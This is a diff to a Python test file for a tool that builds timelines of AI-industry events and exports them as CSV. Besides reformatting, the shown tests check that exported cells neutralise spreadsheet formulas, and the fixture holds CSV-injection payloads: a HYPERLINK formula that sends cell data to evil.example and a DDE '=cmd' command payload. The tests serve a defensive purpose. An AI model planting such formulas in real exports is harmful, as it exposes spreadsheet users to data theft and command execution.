@@ -43,7 +43,8 @@ def test_rows_are_the_shared_rows_in_log_order(seed: timeline.Log) -> None:
 
 @pytest.mark.parametrize("event_id, display, phrase", [
     # a day, a range it lies in, a span
-    ("sutskever-leaves", "Tue 14 May 2024", "\u201cTuesday\u201d: the most recent Tuesday on or before Fri 17 May 2024"),
+    ("sutskever-leaves", "Tue 14 May 2024",
+     "\u201cTuesday\u201d: the most recent Tuesday on or before Fri 17 May 2024"),
     ("leike-resigns", "between 13 and 16 May 2024",
      "\u201cearlier this week\u201d: this week up to the day before Fri 17 May 2024"),
     ("board-coup", "17-22 Nov 2023", "\u201clast year\u201d: the previous year of Fri 17 May 2024 "
@@ -155,7 +156,7 @@ def test_csv_neutralises_formulas(hostile: timeline.Log) -> None:
     assert len(rows) == len(hostile.records)
     for row in rows:
         for column in ("title", "quote", "tags", "actors", "notes", "source_title", "publisher"):
-            assert not row[column][:1] in ("=", "+", "-", "@", "\t", "\r"), (column, row[column])
+            assert row[column][:1] not in ("=", "+", "-", "@", "\t", "\r"), (column, row[column])
     formula = next(r for r in rows if r["id"] == "formula-title")
     assert formula["title"] == "'=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")"
     assert formula["actors"] == "'=cmd|' /C calc'!A0"
